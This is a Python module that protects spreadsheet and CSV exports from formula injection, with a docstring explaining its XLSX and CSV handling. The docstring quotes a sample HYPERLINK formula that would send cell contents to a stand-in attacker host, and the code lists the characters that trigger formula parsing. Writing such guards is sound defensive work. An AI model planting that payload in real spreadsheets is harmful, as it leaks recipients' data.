"""Texts written into spreadsheets stay texts: the one guard against formula injection.

Every workbook and CSV file machikpi writes holds texts that users and plan
documents typed (indicator names, notes, comments). A spreadsheet program
takes a cell that starts with ``=`` (and in a CSV also ``+``, ``-``, ``@``,
a tab or a carriage return) as a formula, so an indicator named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a working
link in the workbook sent to departments. Every writer goes through this
module:

* XLSX (:func:`text_only`): openpyxl marks a string that starts with ``=``
  as a formula (data type ``f``); every such cell is set back to the string
  data type ``s``, so the workbook stores it as a shared string and Excel
  shows the text, never evaluates it. Nothing is changed in the text.
* CSV (:func:`csv_text`): a text that starts with one of those characters
  gets a leading single quote (``'``), as the OWASP "CSV Injection" page
  recommends; the ``csv`` module then quotes it where needed. A text that is
  a plain number (``-3``, ``+1.5``, ``-1,234``) is left as it is: a
  spreadsheet reads it as that number, which is no formula.
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl import Workbook

#: The first characters that make a spreadsheet read a CSV cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?")


def text_only(wb: Workbook) -> Workbook:
    """Make every cell of ``wb`` that openpyxl would write as a formula a text
    cell (module docstring); returns ``wb``. Call it just before saving."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return wb


def csv_text(value: Any) -> Any:
    """``value`` made safe for a CSV cell: a text that a spreadsheet would
    take as a formula gets a leading ``'`` (module docstring); anything that
    is not a text is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value
